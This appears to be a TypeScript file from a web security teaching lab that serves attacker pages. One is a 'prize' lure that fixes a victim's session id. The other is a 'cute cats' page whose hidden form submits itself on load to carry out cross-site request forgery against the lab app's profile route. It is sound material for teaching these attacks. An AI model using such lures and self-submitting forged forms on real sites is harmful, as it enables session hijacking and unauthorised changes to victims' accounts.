import type { FastifyInstance } from 'fastify';
import type { LabContext } from '../../core/context';
import { html, raw } from '../../core/html';
import { attackerLayout } from '../../core/html-layouts';
import type { SessionAttacker } from './attacker';

/** The forged form submits itself as soon as the page loads: no click needed. */
const SUBMIT_SCRIPT = raw("<script>document.getElementById('csrf-form').submit();</script>");

/** The attacker's pages for the session lab. Another site (localhost vs 127.0.0.1), so SameSite rules apply. */
export async function sessionAttackerPages(
  app: FastifyInstance,
  ctx: LabContext,
  attacker: SessionAttacker,
): Promise<void> {
  // Session fixation: plant an id the attacker knows, through the app's legacy URL entry point.
  app.get('/session/fixation', async (_request, reply) => {
    const { sid, plantUrl } = await attacker.prepareFixation();
    return reply.type('text/html; charset=utf-8').send(
      attackerLayout(
        'You won a prize!',
        html`<p>You won a prize! Claiming it takes you to the app.</p>
<p>Behind the scenes: the attacker picked the session id <code id="planted-sid">${sid}</code> and keeps a copy. The link below carries it in the URL, and the app's legacy entry point puts it in your browser's cookie.</p>
<p><a id="plant-link" href="${plantUrl}">Claim your prize</a></p>`,
        // A real top-level navigation: the only way another site can get the app to set its cookie.
        html`<meta http-equiv="refresh" content="1;url=${plantUrl}">`,
      ),
    );
  });

  // CSRF: a form that posts to the app's profile route as soon as the page loads.
  app.get<{ Querystring: { displayName?: string; run?: string } }>(
    '/session/csrf',
    {
      schema: {
        querystring: {
          type: 'object',
          // `run` tags the forged request so the lab can find it in the traffic log.
          properties: {
            displayName: { type: 'string', maxLength: 60 },
            run: { type: 'string', pattern: '^[A-Za-z0-9_-]{1,32}$' },
          },
          additionalProperties: false,
        },
      },
    },
    async (request, reply) => {
      const displayName = request.query.displayName || 'Pwned by Evil Corp';
      const run = request.query.run ? `?run=${request.query.run}` : '';
      const action = `${ctx.origins.app}/api/session/profile${run}`;
      return reply.type('text/html; charset=utf-8').send(
        attackerLayout(
          'Cute cat pictures',
          html`<p>Loading cute cats…</p>
<form id="csrf-form" method="POST" action="${action}" enctype="application/x-www-form-urlencoded">
<input type="hidden" name="displayName" value="${displayName}">
<button type="submit">Show the cats</button></form>
<p>Behind the scenes: this page submits a hidden form to <code>${action}</code>. The browser decides whether your session cookie goes with it.</p>
${SUBMIT_SCRIPT}`,
        ),
      );
    },
  );
}
